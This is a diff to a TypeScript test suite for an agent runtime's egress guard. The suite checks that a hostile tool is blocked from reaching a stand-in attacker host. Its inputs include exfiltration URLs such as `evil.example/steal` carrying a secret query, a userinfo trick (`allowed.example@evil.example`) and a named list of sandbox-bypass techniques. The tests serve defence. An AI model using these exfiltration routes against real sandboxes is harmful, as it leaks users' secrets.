@@ -156,7 +156,10 @@ beforeAll(async () => {
   const compiled = await compileWorker(ws.root, 'text-stats');
   expect(compiled.result.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
   for (const mode of ['direct', 'loader'] as const) {
-    workers[mode] = await startCompiledWorker(compiled.outDir, { mode, upstreams: { [ALLOWED]: allowed.url, [EVIL]: evil.url } });
+    workers[mode] = await startCompiledWorker(compiled.outDir, {
+      mode,
+      upstreams: { [ALLOWED]: allowed.url, [EVIL]: evil.url },
+    });
   }
 });
 afterAll(async () => {
@@ -187,37 +190,50 @@ function expectBlocked(answer: Awaited<ReturnType<typeof askWithSdk>>, host = 'e
 }
 
 describe('egress bypasses from a quarantined child (its own isolate, its own guard)', () => {
-  it.each(['direct', 'loader'] as const)('%s: a hostile tool in text-digest/text-classify reaches nothing outside its allow-list', async (mode) => {
-    const tools = JSON.parse(ws.read('tools.json')) as { tools: Record<string, { module: string; export: string }> };
-    const saved = tools.tools['text-classify']!;
-    tools.tools['text-classify'] = { module: './examples/tools/bypass.ts', export: 'bypass' };
-    ws.write('tools.json', JSON.stringify(tools, null, 2));
-    let worker: StartedWorker | undefined;
-    try {
-      const compiled = await compileWorker(ws.root, 'text-digest', { outDir: join(ws.root, 'dist', `digest-${mode}`) });
-      expect(compiled.result.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
-      const keys = await generateReceiptKeyPair();
-      worker = await startCompiledWorker(compiled.outDir, { mode, secrets: { AGENTDEF_RECEIPT_KEY: JSON.stringify(keys.privateJwk) }, upstreams: { [ALLOWED]: allowed.url, [EVIL]: evil.url } });
-      for (const name of ['global-fetch', 'proto-fetch', 'captured-fetch', 'websocket']) {
-        const url = name === 'websocket' ? `wss://evil.example/socket?${SECRET_QUERY}` : `${EVIL}/steal?${SECRET_QUERY}`;
-        const answer = await askWithSdk(worker.url, JSON.stringify({ attack: name, url }));
-        expect(answer.state, name).toBe(TaskState.TASK_STATE_FAILED);
-      }
-      expectNothingReachedEvil(worker);
-      const logged = worker.logs.join('');
-      expect(logged).toContain('"event":"egress.blocked"');
-      expect(logged).toContain('"host":"evil.example"');
-    } finally {
-      await worker?.dispose();
-      tools.tools['text-classify'] = saved;
+  it.each(['direct', 'loader'] as const)(
+    '%s: a hostile tool in text-digest/text-classify reaches nothing outside its allow-list',
+    async (mode) => {
+      const tools = JSON.parse(ws.read('tools.json')) as { tools: Record<string, { module: string; export: string }> };
+      const saved = tools.tools['text-classify']!;
+      tools.tools['text-classify'] = { module: './examples/tools/bypass.ts', export: 'bypass' };
       ws.write('tools.json', JSON.stringify(tools, null, 2));
-    }
-  });
+      let worker: StartedWorker | undefined;
+      try {
+        const compiled = await compileWorker(ws.root, 'text-digest', {
+          outDir: join(ws.root, 'dist', `digest-${mode}`),
+        });
+        expect(compiled.result.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
+        const keys = await generateReceiptKeyPair();
+        worker = await startCompiledWorker(compiled.outDir, {
+          mode,
+          secrets: { AGENTDEF_RECEIPT_KEY: JSON.stringify(keys.privateJwk) },
+          upstreams: { [ALLOWED]: allowed.url, [EVIL]: evil.url },
+        });
+        for (const name of ['global-fetch', 'proto-fetch', 'captured-fetch', 'websocket']) {
+          const url =
+            name === 'websocket' ? `wss://evil.example/socket?${SECRET_QUERY}` : `${EVIL}/steal?${SECRET_QUERY}`;
+          const answer = await askWithSdk(worker.url, JSON.stringify({ attack: name, url }));
+          expect(answer.state, name).toBe(TaskState.TASK_STATE_FAILED);
+        }
+        expectNothingReachedEvil(worker);
+        const logged = worker.logs.join('');
+        expect(logged).toContain('"event":"egress.blocked"');
+        expect(logged).toContain('"host":"evil.example"');
+      } finally {
+        await worker?.dispose();
+        tools.tools['text-classify'] = saved;
+        ws.write('tools.json', JSON.stringify(tools, null, 2));
+      }
+    },
+  );
 });
 
 describe('bundle-time refusals for Workers', () => {
   it('a tool module that imports cloudflare:sockets does not compile, with a diagnostic at the tool', async () => {
-    ws.write('examples/tools/sockets.ts', 'import { connect } from "cloudflare:sockets";\nexport function sockets() {\n  return typeof connect;\n}\n');
+    ws.write(
+      'examples/tools/sockets.ts',
+      'import { connect } from "cloudflare:sockets";\nexport function sockets() {\n  return typeof connect;\n}\n',
+    );
     const tools = JSON.parse(ws.read('tools.json')) as { tools: Record<string, { module: string; export: string }> };
     const saved = tools.tools['text-metrics']!;
     tools.tools['text-metrics'] = { module: './examples/tools/sockets.ts', export: 'sockets' };
@@ -242,21 +258,34 @@ describe('bundle-time refusals for Workers', () => {
 });
 
 describe.each(['direct', 'loader'] as const)('egress bypasses from tool code in workerd (%s)', (mode) => {
-  it.each(['global-fetch', 'fetch-shifting-url', 'request', 'self-fetch', 'computed-fetch', 'proto-fetch', 'captured-fetch', 'captured-computed', 'delete-then-fetch', 'websocket-fetch-upgrade'])(
-    '%s to a disallowed origin is refused with egress_blocked and never leaves',
+  it.each([
+    'global-fetch',
+    'fetch-shifting-url',
+    'request',
+    'self-fetch',
+    'computed-fetch',
+    'proto-fetch',
+    'captured-fetch',
+    'captured-computed',
+    'delete-then-fetch',
+    'websocket-fetch-upgrade',
+  ])('%s to a disallowed origin is refused with egress_blocked and never leaves', async (name) => {
+    const { answer, worker } = await attack(mode, name, `${EVIL}/steal?${SECRET_QUERY}`);
+    expectBlocked(answer);
+    expectNothingReachedEvil(worker);
+  });
+
+  it.each(['websocket', 'websocket-pair-constructor', 'eventsource', 'send-beacon'])(
+    '%s to a disallowed origin is refused before any connection',
     async (name) => {
-      const { answer, worker } = await attack(mode, name, `${EVIL}/steal?${SECRET_QUERY}`);
+      const url = name.startsWith('websocket')
+        ? `wss://evil.example/socket?${SECRET_QUERY}`
+        : `${EVIL}/events?${SECRET_QUERY}`;
+      const { answer, worker } = await attack(mode, name, url);
       expectBlocked(answer);
       expectNothingReachedEvil(worker);
     },
   );
-
-  it.each(['websocket', 'websocket-pair-constructor', 'eventsource', 'send-beacon'])('%s to a disallowed origin is refused before any connection', async (name) => {
-    const url = name.startsWith('websocket') ? `wss://evil.example/socket?${SECRET_QUERY}` : `${EVIL}/events?${SECRET_QUERY}`;
-    const { answer, worker } = await attack(mode, name, url);
-    expectBlocked(answer);
-    expectNothingReachedEvil(worker);
-  });
 
   it('connects a WebSocket to the URL it checked: an argument that reads differently the second time cannot pass', async () => {
     const { worker } = await attack(mode, 'websocket-shifting-url', `wss://evil.example/socket?${SECRET_QUERY}`);
@@ -287,7 +316,11 @@ describe.each(['direct', 'loader'] as const)('egress bypasses from tool code in 
   });
 
   it('reads userinfo as the URL standard does: allowed.example@evil.example is evil.example', async () => {
-    const { answer, worker } = await attack(mode, 'global-fetch', `https://allowed.example@evil.example/steal?${SECRET_QUERY}`);
+    const { answer, worker } = await attack(
+      mode,
+      'global-fetch',
+      `https://allowed.example@evil.example/steal?${SECRET_QUERY}`,
+    );
     expectBlocked(answer);
     expectNothingReachedEvil(worker);
   });
